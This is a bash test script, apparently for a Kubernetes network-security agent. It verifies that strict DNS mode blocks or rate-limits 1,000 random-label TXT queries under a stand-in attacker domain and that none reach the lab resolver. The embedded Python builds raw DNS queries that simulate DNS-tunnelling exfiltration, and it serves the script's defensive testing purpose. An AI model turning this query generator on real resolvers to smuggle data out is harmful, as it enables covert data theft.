#!/usr/bin/env bash
# Exfiltration through DNS: 1,000 TXT queries with random 40-character labels under an attacker's
# domain, sent by the pod to its resolver as fast as it gets answers, in strict mode. Every one is
# answered NXDOMAIN by the agent's DNS proxy, or, past the pod's query rate (spec.dns, default
# 200/s burst 400), dropped unanswered and counted; not one reaches the lab resolver (its query log
# is the server-side check). Each unanswered query must be one the rate limit counted.
source "$(dirname "$0")/lib.sh"
source "$(dirname "$0")/lib_dns.sh"
require_protected client
resolver=$(lab_addr resolver)
domain=exfil.attacker-lab.example
n=1000
expected "$n random-label TXT queries under $domain from client (strict): each NXDOMAIN or" \
  "dropped over the rate limit (dns_blocked{client} + dns_rate_limited{client} = $n," \
  "unanswered = dns_rate_limited); lab resolver log +0 for $domain"

set_dns_mode strict
since=$(dns_log_lines)
metric_mark tollgate_dns_blocked_total pod=default/client
metric_mark tollgate_dns_rate_limited_total pod=default/client
t0=$(now_ms)
out=$(lab_exec client -- python3 -c '
import random, socket, string, struct, sys
resolver, n, domain = sys.argv[1], int(sys.argv[2]), sys.argv[3]
alphabet = string.ascii_lowercase + string.digits
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(2)
rcodes = {}
for _ in range(n):
    label = "".join(random.choice(alphabet) for _ in range(40))
    name = b"".join(bytes([len(p)]) + p.encode() for p in (label + "." + domain).split("."))
    q = struct.pack("!HHHHHH", random.getrandbits(16), 0x0100, 1, 0, 0, 0) + name + b"\0" + \
        struct.pack("!HH", 16, 1)  # TXT IN
    s.sendto(q, (resolver, 53))
    rc = "timeout"
    try:
        while True:
            r = s.recv(4096)
            if r[:2] == q[:2]:
                rc = {0: "NOERROR", 2: "SERVFAIL", 3: "NXDOMAIN", 5: "REFUSED"}.get(r[3] & 15, str(r[3] & 15))
                break
    except socket.timeout:
        pass
    rcodes[rc] = rcodes.get(rc, 0) + 1
print(" ".join(f"{k}={v}" for k, v in sorted(rcodes.items())) or "none")
' "$resolver" "$n" "$domain" 2>&1)
ms=$(($(now_ms) - t0))
observe "answers: $out in $ms ms"
nx=0 unanswered=0 other=""
for kv in $out; do
  case $kv in
  NXDOMAIN=*) nx=${kv#*=} ;;
  timeout=*) unanswered=${kv#*=} ;;
  *) other+=" $kv" ;;
  esac
done
[[ -z $other ]] || fail "answers other than NXDOMAIN or none: $(tail -c 300 <<<"$other")"
((nx + unanswered == n)) || fail "NXDOMAIN $nx + unanswered $unanswered != $n"
((nx > 0)) || fail "no query was answered NXDOMAIN"
blocked=$(metric_delta tollgate_dns_blocked_total pod=default/client)
limited=$(metric_delta tollgate_dns_rate_limited_total pod=default/client)
observe "dns_blocked{default/client} +$blocked dns_rate_limited{default/client} +$limited"
[[ $blocked == "$nx" ]] || fail "dns_blocked grew by $blocked, want $nx (one per NXDOMAIN)"
[[ $limited == "$unanswered" ]] || fail "dns_rate_limited grew by $limited, want $unanswered (one per unanswered query)"
reached=$(dns_log_count "$since" "$domain")
observe "resolver log +$reached for $domain"
((reached == 0)) || fail "$reached queries under $domain reached the lab resolver"
finish
